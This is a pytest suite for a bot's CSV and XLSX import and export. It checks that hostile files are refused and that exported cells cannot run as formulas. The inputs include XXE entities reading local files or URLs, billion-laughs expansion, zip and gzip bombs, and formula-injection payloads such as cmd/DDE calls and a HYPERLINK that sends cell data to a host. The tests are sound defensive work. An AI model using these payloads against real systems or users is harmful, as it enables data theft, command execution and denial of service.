"""Files made to do harm: each is refused with a sentence, in little time and memory, and changes nothing."""

import gzip
import io
import os
import socket
import struct
import sys
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl.xml.constants import SHARED_STRINGS

from bot.domain.errors import BadInput
from bot.domain.names import clean
from bot.domain.offices import LANGUAGES
from bot.i18n.texts import Texts
from bot.services.desk import Desk
from bot.services.exporting.files import table_text
from bot.services.importing import limits
from bot.services.importing.files import read_table
from bot.services.importing.layouts import PLACE_LAYOUT, guarded, unguarded
from bot.services.imports import Sheet, import_file
from bot.ui.errors import error_text
from db.places import stored_places
from tests.records import audit_entries

HEADER = PLACE_LAYOUT.columns
GOOD = "key,name_en,country\nouagadougou-bf,Ouagadougou,BF\n"
SHEET, STRINGS, BOOK, STYLES = (
    "xl/worksheets/sheet1.xml",
    "xl/sharedStrings.xml",
    "xl/workbook.xml",
    "xl/styles.xml",
)
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def workbook() -> dict[str, bytes]:
    """The parts of a sound workbook with one place in it."""
    book = openpyxl.Workbook()
    for line in GOOD.splitlines():
        book.active.append(line.split(","))
    made = io.BytesIO()
    book.save(made)
    with zipfile.ZipFile(made) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def packed(parts: dict[str, bytes], way: int = zipfile.ZIP_DEFLATED) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", way) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return made.getvalue()


def with_part(name: str, content: bytes, way: int = zipfile.ZIP_DEFLATED) -> bytes:
    return packed(workbook() | {name: content}, way)


def sheet(rows: str) -> bytes:
    return f'<worksheet xmlns="{MAIN}"><sheetData>{rows}</sheetData></worksheet>'.encode()


# What is refused ----------------------------------------------------------------------------------------------

Maker = Callable[[], bytes]


def laughs(root: str = "worksheet") -> str:
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE {root} [<!ENTITY l0 "lol">{entities}]><{root} xmlns="{MAIN}">&l9;</{root}>'


def fetching(address: str) -> bytes:
    """A sheet that asks its reader to fetch something and to show it in a cell."""
    cell = '<row r="1"><c r="A1" t="inlineStr"><is><t>&stolen;</t></is></c></row>'
    return b'<!DOCTYPE worksheet [<!ENTITY stolen SYSTEM "%s">]>' % address.encode() + sheet(cell)


def lying() -> bytes:
    """A sheet of 50 MB of which the archive says that it has 100 bytes."""
    content = bytearray(with_part(SHEET, b" " * 50_000_000))
    with zipfile.ZipFile(io.BytesIO(bytes(content))) as archive:
        size = struct.pack("<L", archive.getinfo(SHEET).file_size)
    return bytes(content.replace(size, struct.pack("<L", 100)))


def overlapping() -> bytes:
    """An archive in which a thousand entries of the directory point to one content."""
    content = packed(workbook() | {"xl/media/image.png": os.urandom(1000) * 1000})
    directory_at = struct.unpack("<L", content[-6:-2])[0]
    directory = content[directory_at:-22]
    last = directory[directory.rindex(b"PK\x01\x02") :]
    directory += last * 1000
    entries = directory.count(b"PK\x01\x02")
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, entries, entries, len(directory), directory_at, 0)
    return content[:directory_at] + directory + end


def macros() -> bytes:
    parts = workbook()
    kinds = parts["[Content_Types].xml"]
    plain = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    assert plain in kinds
    enabled = b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    return packed(parts | {"[Content_Types].xml": kinds.replace(plain, enabled)})


def shared_string(times: int) -> bytes:
    """A text of 30,000 characters that is kept once, and shown in many cells."""
    rows = "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1, times + 1))
    strings = f'<sst xmlns="{MAIN}"><si><t>{"x" * 30_000}</t></si></sst>'.encode()
    parts = workbook()
    override = f'<Override PartName="/{STRINGS}" ContentType="{SHARED_STRINGS}"/></Types>'.encode()
    kinds = {"[Content_Types].xml": parts["[Content_Types].xml"].replace(b"</Types>", override)}
    return packed(parts | kinds | {SHEET: sheet(rows), STRINGS: strings})


def cells(count: int) -> str:
    return "<row>" + "<c/>" * count + "</row>"


def lines(count: int, line: str = "a,b,BF\n") -> bytes:
    return b"key,name_en,country\n" + line.encode() * count


CSV: dict[str, tuple[Maker, str]] = {
    "larger than allowed": (lambda: GOOD.encode() + b"x" * limits.MAX_BYTES, "too_large"),
    "more rows than allowed": (lambda: lines(limits.MAX_ROWS + 1), "too_many_rows"),
    "nothing but line breaks": (lambda: lines(limits.MAX_SHEET_ROWS, "\n"), "too_many_rows"),
    "more columns than allowed": (
        lambda: lines(1, "a," * limits.MAX_COLUMNS + "a\n"),
        "too_many_columns",
    ),
    "blank cells without end": (lambda: lines(300, "," * 16_000 + "\n"), "too_many_cells"),
    "one line without end": (lambda: lines(1, "," * 20_000_000), "row_too_long"),
    "a row of many lines": (lambda: lines(1, '"\n",' * 5_000_000), "row_too_long"),
    "a cell without end": (lambda: lines(1, "a," + "b" * 200_000 + ",BF\n"), "cell_too_long"),
    "a quotation mark never closed": (lambda: lines(1, '"a,b,BF\n' + "a,b,BF\n" * 100_000), "cell_too_long"),
    "a quotation mark in the wrong place": (lambda: lines(1, '"a"b,b,BF\n'), "quotes"),
    "gzip that unpacks to 10 GB": (lambda: gzip.compress(b" " * 10_000_000) * 1000, "too_large"),
    "gzip of nothing but zeros": (lambda: gzip.compress(bytes(20_000_000)), "swollen"),
    "gzip in gzip": (lambda: gzip.compress(gzip.compress(GOOD.encode())), "nested"),
    "gzip cut off": (lambda: gzip.compress(GOOD.encode())[:-9], "damaged"),
    "gzip with a wrong sum": (lambda: gzip.compress(GOOD.encode())[:-8] + bytes(8), "damaged"),
    "zip of a table": (lambda: packed({"table.csv": GOOD.encode()}), "no_workbook"),
    "empty zip": (lambda: packed({}), "no_workbook"),
    "zeros": (lambda: bytes(1000), "binary"),
    "a zero within": (lambda: GOOD.replace("gou", "g\x00u").encode(), "binary"),
    "control characters": (lambda: GOOD.replace("gou", "g\x08u").encode(), "binary"),
    "UTF-32": (lambda: GOOD.encode("utf-32"), "binary"),
    "UTF-16 without a mark": (lambda: GOOD.encode("utf-16-le"), "binary"),
    "half a character of UTF-16": (lambda: GOOD.encode("utf-16") + b"x", "encoding"),
    "a lone surrogate": (lambda: GOOD.encode("utf-16-le").join([b"\xff\xfe", b"\x00\xd8"]), "encoding"),
    "surrogates in UTF-8": (lambda: (GOOD + "\ud800").encode("utf-8", "surrogatepass"), "encoding"),
    "EBCDIC": (lambda: GOOD.encode("cp037"), "encoding"),
    "Latin-1": (lambda: GOOD.replace("Oua", "Óúà").encode("latin-1"), "encoding"),
    "PDF": (lambda: b"%PDF-1.7\n1 0 obj <</Type /Catalog>> endobj", "binary"),
    "RTF": (lambda: rb"{\rtf1\ansi key,name_en,country}", "binary"),
    "old workbook, or one with a password": (
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
        "encrypted",
    ),
}
"""What pretends to be a CSV."""

XLSX: dict[str, tuple[Maker, str]] = {
    "a web page": (lambda: b"\n<html><table><tr><td>key</td></tr></table></html>", "markup"),
    "XML": (lambda: b'\xef\xbb\xbf<?xml version="1.0"?><Workbook/>', "markup"),
    "macros by kind": (macros, "macros"),
    "macros by content": (lambda: with_part("xl/vbaProject.bin", b"Attribute VB_Name"), "macros"),
    "a text document": (
        lambda: packed({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"}),
        "no_workbook",
    ),
    "OpenDocument": (
        lambda: packed({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet"}),
        "no_workbook",
    ),
    "a sheet of 150 MB": (lambda: with_part(SHEET, b" " * 150_000_000), "too_large"),
    "a sheet that swells": (lambda: with_part(SHEET, b" " * 30_000_000), "swollen"),
    "sizes that are not true": (lying, "damaged"),
    "one content many times": (overlapping, "too_large"),
    "thousands of parts": (
        lambda: packed(workbook() | {f"xl/media/{n}.png": b"" for n in range(3000)}),
        "damaged",
    ),
    "packed as bzip2": (lambda: with_part("xl/a.bin", bytes(1000), zipfile.ZIP_BZIP2), "damaged"),
    "packed as LZMA": (lambda: with_part("xl/a.bin", bytes(1000), zipfile.ZIP_LZMA), "damaged"),
    "cut off": (lambda: packed(workbook())[:-100], "damaged"),
    "no XML in the sheet": (lambda: with_part(SHEET, b"key,name_en"), "damaged"),
    "a sheet in EBCDIC": (
        lambda: with_part(SHEET, ('<?xml version="1.0" encoding="cp037"?>' + laughs()).encode("cp037")),
        "damaged",
    ),
    "entities in the sheet": (lambda: with_part(SHEET, laughs().encode()), "doctype"),
    "entities in UTF-16": (lambda: with_part(SHEET, laughs().encode("utf-16")), "doctype"),
    "entities in the texts": (lambda: with_part(STRINGS, laughs("sst").encode()), "doctype"),
    "entities in the workbook": (lambda: with_part(BOOK, laughs("workbook").encode()), "doctype"),
    "entities in the styles": (lambda: with_part(STYLES, laughs("styleSheet").encode()), "doctype"),
    "entities in a part of any name": (lambda: with_part("xl/notes.txt", laughs().encode()), "doctype"),
    "a file of ours as an entity": (lambda: with_part(SHEET, fetching("file:///etc/hostname")), "doctype"),
    "an address as an entity": (lambda: with_part(SHEET, fetching("http://127.0.0.1:9/")), "doctype"),
    "a DTD elsewhere": (
        lambda: with_part(SHEET, b'<!DOCTYPE worksheet SYSTEM "file:///dev/zero">' + sheet("")),
        "doctype",
    ),
    "a row far below": (
        lambda: with_part(SHEET, sheet('<row r="1"><c r="A1"><v>1</v></c></row><row r="99999999999"/>')),
        "too_many_rows",
    ),
    "rows without end": (lambda: with_part(SHEET, sheet("<row/>" * 1_100_000)), "too_many_rows"),
    "cells far to the right": (
        lambda: with_part(SHEET, sheet('<row><c r="XFD1"><v>1</v></c></row>' * 2)),
        "too_many_columns",
    ),
    "blank cells far to the right": (
        lambda: with_part(SHEET, sheet('<row><c r="XFD1"/></row>' * 1000)),
        "too_many_cells",
    ),
    "cells beyond any sheet": (
        lambda: with_part(SHEET, sheet('<row><c r="ZZZZZ1"><v>1</v></c></row>')),
        "damaged",
    ),
    "a row of a million cells": (lambda: with_part(SHEET, sheet(cells(1_000_000))), "too_many_cells"),
    "a million styles": (
        lambda: with_part(STYLES, f'<styleSheet xmlns="{MAIN}">{"<xf/>" * 1_000_000}</styleSheet>'.encode()),
        "too_many_cells",
    ),
    "rows in the styles": (
        lambda: with_part(STYLES, f'<worksheet xmlns="{MAIN}">{"<row/>" * 1_000_000}</worksheet>'.encode()),
        "too_many_cells",
    ),
    "a text in a cell of a million pieces": (
        lambda: with_part(
            SHEET, sheet(f'<row><c t="inlineStr"><is>{"<r><t>x</t></r>" * 500_000}</is></c></row>')
        ),
        "too_many_cells",
    ),
    "elements within elements": (lambda: with_part(SHEET, sheet("<row>" + "<c>" * 250_000)), "damaged"),
    "one long text in many cells": (lambda: shared_string(4000), "too_large"),
    "a text longer than a cell": (
        lambda: with_part(SHEET, sheet(f'<row><c t="inlineStr"><is><t>{"x" * 140_000}</t></is></c></row>')),
        "cell_too_long",
    ),
    "a number of a million digits": (
        lambda: with_part(SHEET, sheet(f"<row><c><v>{'9' * 1_000_000}</v></c></row>")),
        "damaged",
    ),
}
"""What pretends to be a workbook."""

HOSTILE = {f"{name}.csv": made for name, made in CSV.items()} | {
    f"{name}.xlsx": made for name, made in XLSX.items()
}


@pytest.mark.parametrize("name", HOSTILE)
def test_harmful_contents(tmp_path: Path, name: str) -> None:
    """One sentence, in both languages, which names the file and says what to do."""
    make, key = HOSTILE[name]
    path = tmp_path / name
    path.write_bytes(make())
    with pytest.raises(BadInput) as refused:
        read_table(path, HEADER)
    assert refused.value.key == f"import.file_{key}"
    for language in LANGUAGES:
        text = error_text(Texts(language), refused.value)
        assert name in text
        assert "{" not in text


async def test_nothing_changes(desk: Desk, tmp_path: Path) -> None:
    """A refused file leaves no place and no entry in the audit trail; a sound one after it leaves both."""
    for name in (
        "gzip of nothing but zeros.csv",
        "zeros.csv",
        "entities in the sheet.xlsx",
        "macros by kind.xlsx",
    ):
        make, key = HOSTILE[name]
        path = tmp_path / name
        path.write_bytes(make())
        with pytest.raises(BadInput, match=f"import.file_{key}"):
            await import_file(desk, Sheet.PLACES, path)
    async with desk.database.read() as session:
        assert await stored_places(session) == []
    assert await audit_entries(desk) == []
    (tmp_path / "good.csv").write_text(GOOD)
    await import_file(desk, Sheet.PLACES, tmp_path / "good.csv")
    async with desk.database.read() as session:
        assert [place.content.key for place in await stored_places(session)] == ["ouagadougou-bf"]
    assert len(await audit_entries(desk)) == 1


# What is not what it is called --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("table.xlsx", GOOD.encode()),
        ("table.csv", packed(workbook())),
        ("table.xlsx", gzip.compress(GOOD.encode())),
        ("table.csv.gz", GOOD.encode()),
        ("table.csv.gz", gzip.compress(packed(workbook()))),
        ("table", packed(workbook(), zipfile.ZIP_STORED)),
        ("table.xlsm", packed(workbook())),
    ],
    ids=[
        "csv as xlsx",
        "xlsx as csv",
        "gzip as xlsx",
        "csv as gzip",
        "xlsx in gzip",
        "no ending",
        "no macros",
    ],
)
def test_what_a_file_is_its_content_says(tmp_path: Path, name: str, content: bytes) -> None:
    """A table under the wrong name is read as what it is."""
    (tmp_path / name).write_bytes(content)
    (line,) = read_table(tmp_path / name, HEADER).lines
    assert line.cells == {"key": "ouagadougou-bf", "name_en": "Ouagadougou", "country": "BF"}


def test_what_lies_in_a_workbook_is_not_unpacked(tmp_path: Path) -> None:
    """An archive within the archive, and a picture, are no more than bytes."""
    bomb = packed({"bomb": b" " * 9_000_000})
    path = tmp_path / "table.xlsx"
    path.write_bytes(packed(workbook() | {"xl/embeddings/a.zip": bomb, "xl/media/a.png": b"<!DOCTYPE \x00"}))
    assert len(read_table(path, HEADER).lines) == 1


def test_formulas_are_no_data(tmp_path: Path) -> None:
    """Neither a formula nor the result that its author's program left beside it is taken; nor is an error."""
    rows = (
        '<row r="1"><c r="A1" t="inlineStr"><is><t>key</t></is></c>'
        '<c r="B1" t="inlineStr"><is><t>note</t></is></c></row>'
        '<row r="2"><c r="A2"><f>HYPERLINK("http://x","y")</f><v>7</v></c><c r="B2" t="e"><v>#REF!</v></c></row>'
        '<row r="3"><c r="A3"><f t="array" ref="A3:A9">A1:A9</f><v>8</v></c>'
        '<c r="B3"><f t="dataTable" ref="B3:B9"/><v>9</v></c></row>'
    )
    path = tmp_path / "formulas.xlsx"
    path.write_bytes(with_part(SHEET, sheet(rows)))
    first, second = read_table(path, ["key", "note"]).lines
    assert first.cells == second.cells == {}
    assert [fault[2] for fault in first.faults + second.faults] == ["cell_formula"] * 4
    assert [fault[1] for fault in first.faults] == ['=HYPERLINK("http://x","y")', "#REF!"]
    assert [fault[1] for fault in second.faults] == ["=A1:A9", "="]


def test_zeros_and_marks_in_a_workbook(tmp_path: Path) -> None:
    """What a sheet writes for control characters stays text, and is cleaned when the cell is read as a name."""
    row = '<row><c t="inlineStr"><is><t>key</t></is></c></row><row><c t="inlineStr"><is><t>a_x0000_b</t></is></c></row>'
    path = tmp_path / "marks.xlsx"
    path.write_bytes(with_part(SHEET, sheet(row)))
    assert "\x00" not in read_table(path, HEADER).lines[0].cells["key"]


# What is no file ----------------------------------------------------------------------------------------------


def odd_paths(folder: Path) -> Iterator[tuple[Path, str]]:
    yield folder, "directory"
    yield folder / "nothing.csv", "missing"
    yield Path("/dev/zero"), "special"
    yield Path("/dev/stdin") if not Path("/dev/stdin").is_file() else Path("/dev/null"), "special"
    pipe = folder / "pipe.csv"
    os.mkfifo(pipe)
    yield pipe, "special"
    loop = folder / "loop.csv"
    loop.symlink_to(loop)
    yield loop, "unreadable"
    dangling = folder / "dangling.csv"
    dangling.symlink_to(folder / "gone.csv")
    yield dangling, "missing"
    device = folder / "device.csv"
    device.symlink_to("/dev/zero")
    yield device, "special"
    file = folder / "file.csv"
    file.write_text(GOOD)
    yield file / "below.csv", "unreadable"
    yield folder / ("x" * 300), "unreadable"
    yield folder / "a\x00b.csv", "unreadable"
    if os.geteuid():
        file.chmod(0)
        yield file, "unreadable"
    if sys.platform == "linux":
        yield Path("/proc/self/mem"), "unreadable"


def test_what_is_no_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Folders, devices, pipes, sockets, links in a circle, and what may not be read."""
    with socket.socket(socket.AF_UNIX) as listening:
        monkeypatch.chdir(tmp_path)  # a socket's path must be short
        listening.bind("socket.csv")
        for path, key in [*odd_paths(tmp_path), (tmp_path / "socket.csv", "special")]:
            with pytest.raises(BadInput) as refused:
                read_table(path, HEADER)
            assert refused.value.key == f"import.file_{key}", path


# Spreadsheets that run what they are given ----------------------------------------------------------------------

SIGNS = "=+-@＝＋－＠"
ATTACKS = [
    *(f"{sign}1+1" for sign in SIGNS),
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain",
    " =1+1",
    "\u3000=1+1",
    "\xa0@SUM(1)",
    "\ufeff=1+1",
    '"=1+1"',
    '""+1',
    ' "=1+1',
    "=cmd|' /C calc'!A0",
    '+DDE("cmd";"/C calc";"x")',
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://x?"&A1,"click")',
    "'=1+1",
    "''=1+1",
    "' =1+1",
    "=1\n=2",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_no_cell_of_an_export_begins_like_a_formula(text: str) -> None:
    """Each begins with an apostrophe, which makes it text, and which comes off again."""
    (_, cell) = table_text(["note"], [{"note": text}]).split("\n", 1)
    assert cell.lstrip('"')[0] == "'"
    assert guarded(text) == f"'{text}"
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize(
    "text", ["Tōkyō", "'s-Hertogenbosch", "O'Brien", "a=b", "1-2", '"quoted"', "’=", "100 %"]
)
def test_what_is_no_formula_is_left_alone(text: str) -> None:
    """Names that begin with an apostrophe keep it, and get no other."""
    assert guarded(text) == unguarded(text) == text


TEXT = st.text(st.characters(exclude_categories=["Cs"])).map(clean).filter(bool)
MEAN = st.text("'=+-@＝＠\",;|\\ \u3000\n\té臺x", min_size=1).map(clean).filter(bool)


@given(st.lists(st.one_of(TEXT, MEAN, st.sampled_from(ATTACKS).map(clean)), min_size=1, max_size=5))
def test_any_text_comes_back_from_an_export(
    tmp_path_factory: pytest.TempPathFactory, texts: list[str]
) -> None:
    """As it was stored, whatever a spreadsheet might have thought of it."""
    path = tmp_path_factory.mktemp("csv") / "places.csv"
    records = [{**dict.fromkeys(HEADER), "key": "k", "note": text} for text in texts]
    path.write_text(table_text(HEADER, records), encoding="utf-8-sig", newline="")
    assert [line.cells["note"] for line in read_table(path, HEADER).lines] == texts
